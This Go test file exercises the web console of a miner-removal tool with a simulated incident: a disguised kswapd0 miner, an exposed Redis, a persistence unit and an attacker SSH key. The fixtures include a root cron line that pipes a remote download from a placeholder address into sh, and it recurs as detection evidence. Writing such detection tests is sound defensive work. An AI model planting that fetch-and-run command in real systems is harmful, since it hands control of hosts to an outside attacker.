package web

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/alert"
	"github.com/deminer/deminer/internal/auth"
	"github.com/deminer/deminer/internal/server"
	"github.com/deminer/deminer/internal/store"
)

const password = "correct horse battery"

// agents answers orders as agents do: a plan for each one that asks, and steps that end well.
type agents struct {
	srv  *server.Server
	mu   sync.Mutex
	n    int
	slow bool          // nothing is answered
	pace time.Duration // between the steps of a plan
	got  []deminer.Order
}

func (a *agents) Revoke(string) error { return nil }

func (a *agents) Order(ctx context.Context, o deminer.Order) (deminer.Reply, error) {
	a.mu.Lock()
	a.got = append(a.got, o)
	slow := a.slow
	a.mu.Unlock()
	if !slow {
		go a.answer(context.WithoutCancel(ctx), o)
	}
	return deminer.Reply{OK: true}, nil
}

func (a *agents) answer(ctx context.Context, o deminer.Order) {
	switch o.Kind {
	case deminer.OrderPlan:
		a.tell(ctx, o.Host, deminer.MessagePlan, o.ID, plan(o.Host))
		a.tell(ctx, o.Host, deminer.MessageDone, o.ID, deminer.Done{OK: true})
	case deminer.OrderRun, deminer.OrderUndo:
		state := deminer.StateDone
		if o.Kind == deminer.OrderUndo {
			state = deminer.StateUndone
		}
		for i, s := range plan(o.Host).Steps {
			time.Sleep(a.pace)
			a.tell(ctx, o.Host, deminer.MessageRecord, o.ID, deminer.PlanRecord{Plan: o.Run.Plan, Record: deminer.Record{Seq: len(a.got)*100 + i, Step: s.ID, State: state, Time: time.Now()}})
		}
		a.tell(ctx, o.Host, deminer.MessageDone, o.ID, deminer.Done{OK: true})
	default:
		a.tell(ctx, o.Host, deminer.MessageDone, o.ID, deminer.Done{OK: true})
	}
}

func (a *agents) tell(ctx context.Context, host string, kind deminer.MessageKind, order string, body any) error {
	text, err := json.Marshal(body)
	if err != nil {
		return err
	}
	a.mu.Lock()
	a.n++
	id := fmt.Sprintf("%032x", a.n)
	a.mu.Unlock()
	return a.srv.Take(ctx, host, deminer.Message{ID: id, Kind: kind, Order: order, Time: time.Now(), Body: text})
}

func plan(host string) deminer.Plan {
	proc := deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 24381, Start: 99}, Name: "kswapd0"}
	keeper := deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 24377, Start: 98}, Name: "sysetmd"}
	return deminer.Plan{ID: "20261127-031502-" + host, Version: "1", Made: time.Unix(1795748102, 0).UTC(), Incidents: []string{"7f3a"}, Steps: []deminer.Step{
		{ID: "s01", Phase: deminer.PhaseFreeze, Action: deminer.Action{Verb: deminer.VerbFreeze, Target: keeper}, Why: []string{"strong: it starts the miner again within a second"}, Undo: true},
		{ID: "s02", Phase: deminer.PhaseFreeze, Action: deminer.Action{Verb: deminer.VerbFreeze, Target: proc}, Why: []string{"proof: Stratum login seen"}, Undo: true},
		{ID: "s03", Phase: deminer.PhaseBlock, Action: deminer.Action{Verb: deminer.VerbBlock, Target: deminer.Artifact{Kind: deminer.KindAddress, Addr: "203.0.113.7:443"}}, Why: []string{"the pool it logs in to"}, Undo: true},
		{ID: "s04", Phase: deminer.PhaseUproot, Action: deminer.Action{Verb: deminer.VerbCutLine, Target: deminer.Artifact{Kind: deminer.KindLine, Path: "/var/spool/cron/crontabs/root",
			Line: "*/5 * * * * curl -s http://198.51.100.9/x | sh"}}, Why: []string{"strong: a command from the network runs every 5 minutes"}, Undo: true},
		{ID: "s05", Phase: deminer.PhaseUproot, Action: deminer.Action{Verb: deminer.VerbMaskUnit, Target: deminer.Artifact{Kind: deminer.KindUnit, Name: "sysetmd.service"}}, Why: []string{"it starts /opt/sysetmd at boot"}, Undo: true},
		{ID: "s06", Phase: deminer.PhaseKill, Action: deminer.Action{Verb: deminer.VerbKill, Target: proc}, Why: []string{"proof: Stratum login seen"}, NoUndo: "a process that has ended cannot be brought back"},
		{ID: "s07", Phase: deminer.PhaseQuarantine, Action: deminer.Action{Verb: deminer.VerbQuarantine, Target: deminer.Artifact{Kind: deminer.KindFile, Path: "/opt/sysetmd"}}, Why: []string{"the program of a convicted process"}, Undo: true},
	}, Refused: []deminer.Refusal{{Artifact: deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 811}, Name: "redis-server"}, Why: "package redis owns it unchanged: it was exploited, it is not the intruder's", Advice: "bind it to 127.0.0.1 and set a password"}},
		Advice: []string{"Close Redis 6379: it is open to the world without a password.", "Rotate the SSH keys in /root/.ssh."}}
}

// house is a console over a real store, with people of each role.
type house struct {
	t      *testing.T
	c      *Console
	srv    *server.Server
	db     *store.DB
	agents *agents
	people *auth.House
	ts     *httptest.Server
	link   string // of the first admin
}

func newHouse(t *testing.T) *house {
	t.Helper()
	db, err := store.Open(t.Context(), "sqlite:"+filepath.Join(t.TempDir(), "x.db"))
	if err != nil {
		t.Fatal(err)
	}
	h := &house{t: t, db: db, agents: &agents{}}
	h.srv = server.New(server.Options{Store: db, Fleet: h.agents, Enrolment: &tokens{}})
	h.agents.srv = h.srv
	h.people = auth.New(auth.Options{Store: db, Log: h.srv.Audit})
	if h.c, err = New(Options{Server: h.srv, People: h.people, Version: "1.0.0", Say: func(s string) { t.Error(s) }}); err != nil {
		t.Fatal(err)
	}
	if h.link, err = h.people.Setup(t.Context()); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan bool)
	go func() { h.srv.Run(ctx); close(done) }()
	h.ts = httptest.NewTLSServer(h.c)
	t.Cleanup(func() { h.ts.CloseClientConnections(); h.ts.Close(); cancel(); <-done; db.Close() })
	return h
}

// tokens makes tokens that nobody takes.
type tokens struct{ list []server.Token }

func (k *tokens) NewToken(_ context.Context, note string, life time.Duration, hosts int) (string, string, error) {
	k.list = append(k.list, server.Token{ID: fmt.Sprint(len(k.list)), Note: note, Made: time.Now(), Expires: time.Now().Add(life), Left: hosts})
	return "secret", "deminer agent --join https://deminer.example:7443 --token 7Q2K-…", nil
}
func (k *tokens) Tokens(context.Context) ([]server.Token, error) { return k.list, nil }
func (k *tokens) Withdraw(context.Context, string) error         { return nil }

// browser is somebody with a browser.
type browser struct {
	t    *testing.T
	h    *house
	c    *http.Client
	lang string
}

func (h *house) browser() *browser {
	jar, err := cookiejar.New(nil)
	if err != nil {
		h.t.Fatal(err)
	}
	return &browser{h.t, h, &http.Client{Jar: jar, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}, "en"}
}

// person makes an account with a role and gives a browser in which it is logged in. The first one is the admin of the link.
func (h *house) person(role auth.Role) *browser {
	h.t.Helper()
	b := h.browser()
	name, token := string(role), h.link
	if h.link == "" {
		var err error
		if token, err = h.people.Invite(h.t.Context(), auth.Who{Name: "admin", Role: auth.Admin}, name, role); err != nil {
			h.t.Fatal(err)
		}
	}
	h.link = ""
	b.send(http.StatusOK, "/setup/"+token, url.Values{"name": {name}, "password": {password}, "again": {password}})
	return b
}

func (b *browser) do(method, path string, form url.Values, headers ...string) (int, string) {
	b.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	r, err := http.NewRequestWithContext(b.t.Context(), method, b.h.ts.URL+path, body)
	if err != nil {
		b.t.Fatal(err)
	}
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	r.Header.Set("Accept-Language", b.lang)
	for i := 0; i+1 < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	w, err := b.c.Do(r)
	if err != nil {
		b.t.Fatal(err)
	}
	defer w.Body.Close()
	text, err := io.ReadAll(w.Body)
	if err != nil {
		b.t.Fatal(err)
	}
	return w.StatusCode, string(text)
}

func (b *browser) get(path string) string {
	b.t.Helper()
	status, text := b.do(http.MethodGet, path, nil)
	if status != http.StatusOK {
		b.t.Fatalf("GET %s: %d %s", path, status, text)
	}
	return text
}

func (b *browser) send(want int, path string, form url.Values, headers ...string) string {
	b.t.Helper()
	status, text := b.do(http.MethodPost, path, form, headers...)
	if status != want {
		b.t.Fatalf("POST %s: %d, want %d: %s", path, status, want, text)
	}
	return text
}

var formToken = regexp.MustCompile(`name="form" value="([^"]+)"`)

// token is what the browser holds of its session.
func (b *browser) token() string {
	u, err := url.Parse(b.h.ts.URL)
	if err != nil {
		b.t.Fatal(err)
	}
	for _, c := range b.c.Jar.Cookies(u) {
		if c.Name == sessionCookie {
			return c.Value
		}
	}
	b.t.Fatal("nobody is logged in")
	return ""
}

// form is the token of the session.
func (b *browser) form() string {
	m := formToken.FindStringSubmatch(b.get("/settings"))
	if m == nil {
		b.t.Fatal("no form has a token")
	}
	return m[1]
}

// fill tells what a small fleet tells in the night in which a miner spreads.
func (h *house) fill() {
	h.t.Helper()
	ctx, now := h.t.Context(), time.Now()
	tell := func(host string, kind deminer.MessageKind, body any) {
		if err := h.agents.tell(ctx, host, kind, "", body); err != nil {
			h.t.Fatal(err)
		}
	}
	for i, name := range []string{"web01", "web02", "db01", "ci-runner", "mail"} {
		mode := "watching"
		if i > 2 {
			mode = "preventing"
		}
		tell("h"+itoa(i+1), deminer.MessageState, deminer.AgentState{Mode: mode, Deminer: "1.0.0", Started: now.Add(-50 * time.Hour), Policy: "freezes and blocks what is proven",
			Host: deminer.HostInfo{Name: name, OS: "linux", Distro: "Debian GNU/Linux 12 (bookworm)", Kernel: "6.1.0-28-amd64", Arch: "amd64", CPUs: 4, Memory: 8 << 30, Boot: now.Add(-50 * 24 * time.Hour)},
			Lost: []string{"file opens are not seen: fanotify is not allowed here"}})
	}
	wallet := strings.Repeat("ab", 32)
	one := alert.Alert{ID: "0000000a", Key: "file:/tmp/.X11-unix/.rsync/c", State: alert.Unhandled, Grade: alert.Proof, Topics: []deminer.Topic{deminer.TopicMining},
		Title: "process 24381 (kswapd0) logs in to a mining pool", Why: []string{"proof: process 24381 (kswapd0) logs in to a mining pool", "it sent to 203.0.113.7:443 a message of the cryptonote mining protocol: {\"method\":\"login\",\"params\":{\"login\":\"48edf…9QkP\"}}", "Its memory has RandomX's shape: 2080 MiB and 4 scratchpads of 2 MiB", "The program was deleted from disk and lives in memory only"},
		Lineage:  []string{"process 24381 kswapd0 of redis runs /tmp/.X11-unix/.rsync/c: [kswapd0]", "process 24377 sysetmd of redis runs /opt/sysetmd: /opt/sysetmd -d", "process 811 redis-server of redis runs /usr/bin/redis-server: redis-server *:6379", "process 1 systemd of root runs /usr/lib/systemd/systemd: /sbin/init"},
		Thing:    alert.Thing{Artifact: deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 24381}, Name: "kswapd0"}, Path: "/tmp/.X11-unix/.rsync/c", SHA256: wallet, User: "redis", Unit: "redis-server.service"},
		Incident: "7f3a", Next: "deminer plan shows what would end it", Trigger: "a program started from a hidden directory", First: now.Add(-52 * time.Hour), Last: now.Add(-time.Minute), Count: 311}
	tell("h1", deminer.MessageAlert, one)
	two := one
	two.First, two.ID, two.Count = now.Add(-20*time.Hour), "0000000b", 44
	tell("h2", deminer.MessageAlert, two)
	cron := alert.Alert{ID: "0000000c", Key: "line:x", State: alert.Unhandled, Grade: alert.Strong, Topics: []deminer.Topic{deminer.TopicReturns}, Title: "a command from the network runs every 5 minutes",
		Why:      []string{"cron of root: */5 * * * * curl -s http://198.51.100.9/x | sh", "no package owns the line"},
		Thing:    alert.Thing{Artifact: deminer.Artifact{Kind: deminer.KindLine, Path: "/var/spool/cron/crontabs/root", Line: "*/5 * * * * curl -s http://198.51.100.9/x | sh", Mechanism: "cron"}, Path: "/var/spool/cron/crontabs/root", User: "root"},
		Incident: "7f3a", First: now.Add(-52 * time.Hour), Last: now.Add(-2 * time.Minute), Count: 12}
	tell("h1", deminer.MessageAlert, cron)
	key := cron
	key.ID, key.Topics, key.Title, key.Grade, key.Incident, key.State = "0000000d", []deminer.Topic{deminer.TopicBackdoor}, `an SSH key "root@kali" that nobody vouches for`, alert.Suspected, "", alert.Unhandled
	key.Thing = alert.Thing{Artifact: deminer.Artifact{Kind: deminer.KindLine, Path: "/root/.ssh/authorized_keys", Line: "ssh-ed25519 AAAAC3… root@kali"}, Path: "/root/.ssh/authorized_keys", User: "root"}
	key.Why = []string{"written one minute after the first program of the intruder"}
	tell("h1", deminer.MessageAlert, key)
	done := one
	done.ID, done.State, done.Reason, done.Incident, done.Title = "0000000e", alert.Handled, "a scan found nothing of it", "", "xmrig runs from /dev/shm"
	done.Thing.SHA256, done.Thing.Path, done.First, done.Last = strings.Repeat("cd", 32), "/dev/shm/xmrig", now.Add(-9*24*time.Hour), now.Add(-8*24*time.Hour)
	tell("h4", deminer.MessageAlert, done)
	blocked := done
	blocked.ID, blocked.State, blocked.First, blocked.Last, blocked.Grade = "0000000f", alert.Blocked, now.Add(-3*time.Hour), now.Add(-3*time.Hour), alert.Proof
	tell("h5", deminer.MessageAlert, blocked)

	tell("h1", deminer.MessageReport, report(now))
	tell("h3", deminer.MessageReport, deminer.Report{Version: "1", Mode: "quick", Verdict: deminer.VerdictClean, Elapsed: 1400 * time.Millisecond, Snapshot: deminer.Snapshot{Taken: now.Add(-3 * time.Hour)}, Looked: deminer.Looked{Processes: 211, Files: 9120, Footholds: 1204, Rules: 5849}})
	tell("h1", deminer.MessageVault, []deminer.Kept{{ID: "k1", Path: "/opt/sysetmd", SHA256: wallet, Size: 3_481_600, Time: now.Add(-30 * time.Minute)}})
	tell("h1", deminer.MessageBlocks, []deminer.Blocked{{What: "203.0.113.7:443", Since: now, Expires: now.Add(23 * time.Hour)}, {What: "2001:db8::7", Since: now, Expires: now.Add(100 * time.Hour), Kept: true}})
	tell("h2", deminer.MessageBlocks, []deminer.Blocked{{What: "203.0.113.7:443", Since: now, Expires: now.Add(23 * time.Hour)}})
}

// quiet is an alert that comes while somebody chooses.
func quiet() alert.Alert {
	return alert.Alert{ID: "00000010", Key: "file:/x", State: alert.Unhandled, Grade: alert.Suspected, Topics: []deminer.Topic{deminer.TopicTamper}, Title: "a new thing", First: time.Now(), Last: time.Now(), Count: 1}
}

func report(now time.Time) deminer.Report {
	proc := deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 24381, Start: 9}, Name: "kswapd0"}
	keeper := deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 24377, Start: 8}, Name: "sysetmd"}
	file := deminer.Artifact{Kind: deminer.KindFile, Path: "/opt/sysetmd"}
	cron := deminer.Artifact{Kind: deminer.KindLine, Path: "/var/spool/cron/crontabs/root", Line: "*/5 * * * * curl -s http://198.51.100.9/x | sh"}
	unit := deminer.Artifact{Kind: deminer.KindFile, Path: "/etc/systemd/system/sysetmd.service"}
	pool := deminer.Artifact{Kind: deminer.KindAddress, Addr: "203.0.113.7:443"}
	redis := deminer.Artifact{Kind: deminer.KindListener, Addr: "0.0.0.0:6379"}
	key := deminer.Artifact{Kind: deminer.KindLine, Path: "/root/.ssh/authorized_keys", Line: "ssh-ed25519 AAAAC3… root@kali"}
	m := func(a deminer.Artifact, r deminer.Role, g deminer.Grade, why string) deminer.Member {
		return deminer.Member{Artifact: a, Role: r, Grade: g, Why: []string{why}}
	}
	e := func(a, b deminer.Artifact, verb string, hard bool) deminer.Edge {
		return deminer.Edge{From: a.Ref(), To: b.Ref(), Verb: verb, Hard: hard}
	}
	return deminer.Report{Version: "1", Deminer: "1.0.0", Mode: "full", Verdict: deminer.VerdictMining, Elapsed: 41 * time.Second,
		Snapshot: deminer.Snapshot{Taken: now.Add(-10 * time.Minute), Gaps: []deminer.Gap{{Part: "files", State: deminer.Skipped, What: "/srv/vault", Why: "an encrypted volume that is not open"}}},
		Looked:   deminer.Looked{Processes: 312, Sockets: 84, Footholds: 1204, Files: 138_442, Bytes: 7 << 30, Rules: 5849},
		Incidents: []deminer.Incident{{ID: "7f3a", Title: "kswapd0 mines through 203.0.113.7:443", Since: now.Add(-52 * time.Hour), Cores: 3.8,
			Members: []deminer.Member{m(redis, deminer.RoleEntry, deminer.Suspected, "open to the world without a password"), m(key, deminer.RoleAccess, deminer.Suspected, "written one minute after the first program"),
				m(cron, deminer.RoleReturns, deminer.Convicted, "starts a program from the network"), m(unit, deminer.RoleReturns, deminer.Convicted, "starts /opt/sysetmd"), m(file, deminer.RoleFile, deminer.Convicted, "the program of a convicted process"),
				m(keeper, deminer.RoleRuns, deminer.Convicted, "starts the miner again"), m(proc, deminer.RoleRuns, deminer.Convicted, "proof: Stratum login seen"), m(pool, deminer.RoleTalks, deminer.Convicted, "the pool")},
			Edges:      []deminer.Edge{e(redis, cron, "wrote", true), e(redis, key, "same time", false), e(unit, file, "starts", true), e(file, keeper, "is the program of", true), e(keeper, proc, "starts", true), e(proc, pool, "connects to", true), e(cron, file, "wrote", true)},
			Timeline:   []deminer.Moment{{Time: now.Add(-52 * time.Hour), What: "Redis wrote /var/spool/cron/crontabs/root", From: "file time"}, {Time: now.Add(-52*time.Hour + time.Minute), What: "/opt/sysetmd appeared", From: "file time"}, {Time: now.Add(-52*time.Hour + 2*time.Minute), What: "kswapd0 started", From: "process start"}},
			Indicators: []deminer.Indicator{{Kind: "wallet", Value: "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9QkP"}, {Kind: "pool", Value: "203.0.113.7:443"}, {Kind: "sha256", Value: strings.Repeat("ab", 32)}},
			Entries:    []deminer.Entry{{What: "Redis on 6379, open to the world without a password; its dump wrote the cron file", Belief: "likely", Close: []string{"bind it to 127.0.0.1 and set requirepass"}}},
			Secrets:    []deminer.Secret{{Path: "/root/.ssh/id_ed25519", Kind: "ssh private key", Why: "root ran the intruder's programs", Do: "make a new key, take the old one out of authorized_keys everywhere"}},
			Distrust:   []string{"/usr/bin/ps and /usr/bin/top are not the packaged ones"}}}}
}
